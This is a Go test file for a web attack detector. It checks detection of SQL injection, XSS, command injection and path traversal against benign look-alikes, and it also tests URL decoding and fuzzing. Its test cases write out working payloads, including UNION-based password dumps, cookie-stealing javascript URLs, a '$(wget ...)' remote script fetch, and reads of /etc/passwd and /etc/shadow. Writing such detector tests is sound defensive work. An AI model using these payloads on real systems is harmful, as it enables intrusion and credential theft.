package payload

import "testing"

// Each case is written from the attack's definition, with benign values
// that look alike.
func TestDetectKinds(t *testing.T) {
	cases := []struct {
		kind Kind
		raw  string
		want bool
	}{
		{SQL, "/item.php?id=1%27%20OR%20%271%27%3D%271", true},
		{SQL, "id=5+UNION+ALL+SELECT+username,password+FROM+users--", true},
		{SQL, "q=1%2527%2520or%25201%253D1--", true}, // double encoded
		{SQL, "id=1;WAITFOR DELAY '0:0:5'--", true},
		{SQL, "id=1 AND SLEEP(5)", true},
		{SQL, "id=1)/**/AND/**/pg_sleep(5)", true},
		{SQL, "x=1/*!50000UNION*/ /*!50000SELECT*/ 1,2", true},
		{SQL, "u=admin' AND ASCII(SUBSTRING((SELECT password FROM users LIMIT 1),1,1))>64--", true},
		{SQL, "t=-1 union select table_name from information_schema.tables", true},
		{SQL, "a=CHAR(115,101,108,101,99,116)", true},
		{SQL, "/search?q=rock+and+roll&page=2", false},
		{SQL, "/products?name=O%27Reilly+books&sort=price", false},
		{SQL, "/index.html", false},
		// One word in double quotes is how people quote in a search; the
		// same in single quotes is an SQL string around an operator.
		{SQL, "q=%22IS%22+STAMP", false},
		{SQL, "q=A+%27DIV%27+B", true},
		{SQL, "q=select+your+size+from+the+list", false},
		{XSS, "q=%3Cscript%3Ealert(1)%3C/script%3E", true},
		{XSS, "next=javascript:alert(document.cookie)", true},
		{XSS, "next=java%09script:alert(1)", true},
		{XSS, "name=%22%20onmouseover%3D%22alert(1)", true},
		{XSS, "c=&lt;img src=x onerror=alert(1)&gt;", true},
		{XSS, "q=fish+%26+chips&lang=en", false},
		{XSS, "next=/account/settings", false},
		{Command, "host=127.0.0.1;cat+/etc/passwd", true},
		{Command, "ip=8.8.8.8|id", true},
		{Command, "f=$(wget+http://x.example/a.sh)", true},
		{Command, "f=a%60whoami%60", true},
		{Command, "q=cat;dog", false},
		{Command, "q=tom+%26+jerry", false},
		{Traversal, "/download?file=../../../../etc/passwd", true},
		{Traversal, "file=..%252f..%252f..%252fwindows/win.ini", true},
		{Traversal, "/static/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/shadow", true},
		{Traversal, "page=php://filter/convert.base64-encode/resource=index", true},
		{Traversal, "/docs/../index.html", false},
		{Traversal, "img=photos/2024/a.jpg", false},
	}
	for _, c := range cases {
		if got := Detect(c.kind, c.raw); got != c.want {
			t.Errorf("Detect(%v, %q) = %v, want %v", c.kind, c.raw, got, c.want)
		}
	}
}

func TestURLDecode(t *testing.T) {
	cases := map[string]string{
		"a+b%20c": "a b c",
		"%2527":   "'",
		"%252527": "'",
		"%u0027x": "'x",
		"100%":    "100%",
		"%zz%4":   "%zz%4",
		"%2B":     "+",
		"1%252B1": "1+1",
	}
	for in, want := range cases {
		if got := URLDecode(in); got != want {
			t.Errorf("URLDecode(%q) = %q, want %q", in, got, want)
		}
	}
}

func TestInputsSplitsQuery(t *testing.T) {
	var got []string
	Inputs("/p/a%20b?x=1&y=%27q%27&flag", func(v string) bool { got = append(got, v); return false })
	want := []string{"/p/a b", "1", "'q'", "flag"}
	if len(got) != len(want) {
		t.Fatalf("inputs %q, want %q", got, want)
	}
	for i := range want {
		if got[i] != want[i] {
			t.Errorf("input %d = %q, want %q", i, got[i], want[i])
		}
	}
}

func TestKindOf(t *testing.T) {
	for _, k := range []Kind{SQL, XSS, Command, Traversal} {
		if got, ok := KindOf(k.String()); !ok || got != k {
			t.Errorf("KindOf(%q) = %v, %v", k.String(), got, ok)
		}
	}
	if _, ok := KindOf("rce"); ok {
		t.Error("KindOf accepted an unknown name")
	}
}

func FuzzInputs(f *testing.F) {
	for _, s := range []string{"/a?b=c&d=%27", "%25%32%37", "%u00", "/*!50000select*/", "..%c0%af", "&lt;x&#x3c;", "+%+%2", "a=1;b"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		d := URLDecode(s)
		if len(d) > len(s) {
			t.Fatalf("decoding grew the input: %d > %d", len(d), len(s))
		}
		_ = NormalizeSQL(d)
		for _, k := range []Kind{SQL, XSS, Command, Traversal} {
			Detect(k, s)
		}
	})
}
